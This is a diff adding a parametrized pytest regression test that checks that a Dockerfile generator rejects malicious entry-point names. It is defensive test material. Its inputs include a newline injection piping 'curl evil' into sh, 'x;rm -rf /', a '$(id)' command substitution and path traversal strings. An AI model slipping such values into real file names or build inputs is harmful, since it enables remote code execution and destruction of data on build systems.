@@ -9,9 +9,11 @@ import json
 import httpx
 import pytest
 
+from pare.engines.dockerfile import generate
 from pare.errors import AuthError, UsageError
 from pare.experiment.profiles import parse_profiles
 from pare.experiment.results import Results
+from pare.recipes.base import DockerFacts
 from pare.stores.registry.auth import Authenticator, static_credentials
 
 
@@ -66,3 +68,15 @@ def test_results_tables_of_the_wrong_shape_are_malformed(changes: dict[str, obje
     with pytest.raises(UsageError, match="malformed"):
         Results.from_dict(json.loads(json.dumps(results_file(**changes))))
     Results.from_dict(results_file())
+
+
+@pytest.mark.parametrize("entry", ["server.js\nRUN curl evil | sh", 'a"b.js', "x;rm -rf /", "$(id).js",
+                                   "a b.js", "../outside.js", "/abs.js", ""])
+@pytest.mark.parametrize("language", ["go", "node", "python"])
+def test_an_entry_point_cannot_change_the_generated_dockerfile(entry: str, language: str) -> None:
+    """Found: the entry point (package.json's main, a script or binary name) went into RUN and
+    ENTRYPOINT lines as it was, so a newline in it added an instruction and a quote broke the
+    ENTRYPOINT's JSON."""
+    with pytest.raises(UsageError, match="entry point"):
+        generate(DockerFacts(language, (), entry))
+    assert "/app/src/server.js" in generate(DockerFacts(language, (), "src/server.js")).text
